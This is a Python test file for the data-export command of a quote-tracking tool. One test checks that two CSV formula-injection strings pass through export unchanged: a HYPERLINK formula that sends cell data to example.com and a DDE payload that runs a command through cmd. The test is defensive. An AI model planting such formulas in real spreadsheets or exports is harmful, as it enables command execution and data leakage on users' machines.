"""Exports: the rows of the database in every form, whole or not at all."""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import json
import sqlite3
import sys
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from hostile import make_sample
from site_sample import make_database
from statements_sample import make_statements

from onrecord.cli import main
from onrecord.errors import ExportError
from onrecord.storage import Format, export
from onrecord.storage.export import LIST, listed
from onrecord.storage.exported import EXPORTED, Exported
from onrecord.storage.schema import TABLES

FORMATS: tuple[Format, ...] = ("csv", "jsonl", "parquet")


@pytest.fixture(scope="module", params=["plain", "differing", "hostile"])
def database(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("export")
    if request.param == "plain":
        return make_database(folder)
    if request.param == "differing":
        return make_statements(folder)
    return make_sample(folder)


@pytest.fixture(scope="module")
def exported(database: Path) -> Path:
    folder = database.parent / "files"
    export(database, folder, FORMATS)
    return folder


def rows_of(path: Path, table: Exported) -> list[tuple[Any, ...]]:
    """The rows of a file, with the types of the table."""
    if path.name.endswith(".csv.gz"):
        text = gzip.decompress(path.read_bytes()).decode("utf-8")
        read = csv.reader(io.StringIO(text, newline=""))
        assert next(read) == list(table.columns)
        return [tuple(_typed(row, table)) for row in read]
    if path.name.endswith(".jsonl.gz"):
        lines = gzip.decompress(path.read_bytes()).decode("utf-8").splitlines(keepends=True)
        found = [json.loads(line) for line in "".join(lines).split("\n")[:-1]]
        assert all(list(row) == list(table.columns) for row in found)
        return [tuple(row.values()) for row in found]
    import pyarrow.parquet

    read = pyarrow.parquet.read_table(path)
    assert read.column_names == list(table.columns)
    return [tuple(row.values()) for row in read.to_pylist()]


def _typed(row: list[str], table: Exported) -> Iterator[object]:
    for value, kind in zip(row, table.columns.values(), strict=True):
        # CSV has no null: what is empty may be either.
        yield kind(value) if value != "" else None


def emptied(rows: list[tuple[Any, ...]]) -> list[tuple[Any, ...]]:
    return [tuple(None if value == "" else value for value in row) for row in rows]


@pytest.mark.parametrize("format", FORMATS)
def test_rows_are_those_of_the_database(database: Path, exported: Path, format: Format) -> None:
    made = listed(exported)
    assert made is not None
    with closing(sqlite3.connect(database)) as connection:
        for table in EXPORTED:
            [file] = [f for f in made.files if (f.table, f.format) == (table.name, format)]
            wanted = [tuple(row) for row in connection.execute(table.sql)]
            found = rows_of(exported / file.name, table)
            assert found == (emptied(wanted) if format == "csv" else wanted), file.name
            assert file.rows == len(wanted)


def test_plain_tables_are_as_they_are(database: Path, exported: Path) -> None:
    """What is written is also what the table itself has, not only what the export's query gives."""
    by_name = {table.name: table for table in EXPORTED}
    with closing(sqlite3.connect(database)) as connection:
        connection.row_factory = sqlite3.Row
        for row in rows_of(exported / "quotes.jsonl.gz", by_name["quotes"]):
            given = dict(zip(by_name["quotes"].columns, row, strict=True))
            quote = connection.execute(
                "select * from quotes where id = ?", [given["id"]]
            ).fetchone()
            names = {"speaker_id": "speaker", "party_id": "party", "article_id": "article"}
            names |= {n: n for n in ("text", "kind", "said_on", "start", "end", "confidence")}
            assert {n: given[n] for n in names} == {n: quote[c] for n, c in names.items()}
            for column, key in (("speaker", quote["speaker"]), ("party", quote["party"])):
                sql = "select name from speakers where id = ?"
                name = connection.execute(sql, [key]).fetchone()
                assert given[column] == (name and name[0])


def test_what_is_left_out() -> None:
    columns = {table.name: set(table.columns) for table in EXPORTED}
    assert columns["articles"].isdisjoint({"text", "source", "fingerprint", "wording"})
    whole = {table.name: {column.name for column in table.columns} for table in TABLES}
    assert columns["articles"] < whole["articles"]
    for name in ("speakers", "aliases", "statements", "segments", "evidence", "alignments"):
        assert columns[name] == whole[name]
    renamed = {"speaker_id", "party_id", "article_id", "speaker_kind", "role"}
    of_articles = {"publisher", "author", "published", "url"}
    assert columns["quotes"] - renamed - of_articles == whole["quotes"]


def test_sizes_and_digests_are_those_of_the_files(exported: Path) -> None:
    made = listed(exported)
    assert made is not None
    assert len(made.files) == len(EXPORTED) * len(FORMATS)
    assert {file.name for file in made.files} | {LIST} == {path.name for path in exported.iterdir()}
    for file in made.files:
        held = (exported / file.name).read_bytes()
        assert (file.bytes, file.sha256) == (len(held), hashlib.sha256(held).hexdigest())


def test_the_same_rows_make_the_same_files(database: Path, tmp_path: Path) -> None:
    first, second = (export(database, tmp_path / name, FORMATS) for name in "ab")
    assert first == second


def test_hostile_words_stay_true(tmp_path: Path) -> None:
    path = make_sample(tmp_path)
    export(path, tmp_path / "files", ("csv",))
    text = gzip.decompress((tmp_path / "files" / "quotes.csv.gz").read_bytes()).decode()
    words = {row[1] for row in csv.reader(io.StringIO(text, newline=""))}
    assert {'=HYPERLINK("https://example.com/?"&A1,"press here")', "+1+cmd|' /C calc'!A0"} <= words


def test_an_export_replaces_an_earlier_one_and_nothing_else(tmp_path: Path) -> None:
    path, folder = make_database(tmp_path), tmp_path / "files"
    export(path, folder, FORMATS)
    (folder / "mine.txt").write_text("mine")
    export(path, folder, ("csv",))
    there = {each.name for each in folder.iterdir()}
    assert there == {f"{table.name}.csv.gz" for table in EXPORTED} | {LIST, "mine.txt"}


def test_an_export_that_fails_leaves_the_earlier_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path, folder = make_database(tmp_path), tmp_path / "files"
    before = export(path, folder, ("csv",))
    held = {each.name: each.read_bytes() for each in folder.iterdir()}

    def full(table: str, rows: int) -> None:
        if table == "segments":
            raise OSError(28, "No space left on device")

    with pytest.raises(ExportError, match="No space left on device"):
        export(path, folder, FORMATS, full)
    assert {each.name: each.read_bytes() for each in folder.iterdir()} == held
    assert listed(folder) == before


def test_all_files_are_of_one_moment(tmp_path: Path) -> None:
    """A build that ends meanwhile is in none of them."""
    path = make_database(tmp_path)

    def meanwhile(table: str, rows: int) -> None:
        if table == "quotes":
            with closing(sqlite3.connect(path)) as connection:
                connection.execute("delete from evidence")
                connection.execute("delete from segments")
                connection.commit()

    made = export(path, tmp_path / "files", ("jsonl",), meanwhile)
    rows = {file.table: file.rows for file in made.files}
    assert rows["segments"] == 10
    assert rows["evidence"] > 0


@pytest.mark.parametrize(
    "text",
    [
        "",
        "{",
        "[]",
        "null",
        '{"files": 1}',
        '{"build": 1, "built": null, "files": [{"name": "x"}]}',
    ],
)
def test_a_broken_list_is_none(tmp_path: Path, text: str) -> None:
    (tmp_path / LIST).write_text(text)
    assert listed(tmp_path) is None


def run(*arguments: object) -> Result:
    return CliRunner().invoke(main, ["export", *map(str, arguments)])


def test_command(tmp_path: Path) -> None:
    path = make_database(tmp_path)
    result = run(path)
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith(
        f"{tmp_path / 'exports'}: 7 quotes and the tables behind them, 24 files, "
    )
    assert result.stderr == ""
    result = run(path, tmp_path / "two" / "deep", "--format", "csv", "--format", "csv")
    assert "8 files" in result.stdout


def test_without_pyarrow_parquet_is_left_out(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = make_database(tmp_path)
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    monkeypatch.setitem(sys.modules, "pyarrow.parquet", None)
    result = run(path)
    assert result.exit_code == 0
    assert "16 files" in result.stdout
    assert result.stderr == (
        'Parquet is left out: pyarrow is not installed (pip install "onrecord[parquet]").\n'
    )
    result = run(path, "--format", "parquet")
    assert result.exit_code == 2
    assert 'Parquet needs pyarrow. Install it: pip install "onrecord[parquet]"' in result.stderr
    assert len(result.stderr.splitlines()) == 1


def test_bad_input_is_one_line(tmp_path: Path) -> None:
    path = make_database(tmp_path)
    (tmp_path / "file").write_text("no database at all" * 100)
    for arguments, told in (
        ((tmp_path / "no.db",), "there is no such database"),
        ((tmp_path / "file",), "this is not a database"),
        ((path, tmp_path / "file"), "the export cannot be written (File exists)"),
        ((path, tmp_path / "file" / "below"), "the export cannot be written (Not a directory)"),
    ):
        result = run(*arguments)
        assert result.exit_code == 2, result.output
        assert told in result.stderr
        assert len(result.stderr.splitlines()) == 1
    assert run(path, "--format", "xlsx").exit_code == 2
